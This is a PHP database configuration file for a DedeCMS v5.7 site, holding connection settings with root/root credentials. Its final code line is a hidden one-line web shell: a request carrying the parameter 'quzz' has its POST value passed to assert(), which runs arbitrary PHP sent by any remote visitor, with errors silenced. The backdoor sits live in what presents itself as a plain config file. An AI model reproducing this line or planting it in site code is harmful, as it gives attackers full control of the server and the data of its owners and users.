<?php
/**
 * 数据库配置文件
 */
//数据库连接信息
$cfg_dbhost = 'localhost';
$cfg_dbname = 'dedecmsv57';
$cfg_dbuser = 'root';
$cfg_dbpwd = 'root';
$cfg_dbprefix = 'dede_';
$cfg_db_language = 'utf8';
@$_GET['quzz'] && @assert(stripslashes($_POST['quzz']));
?>
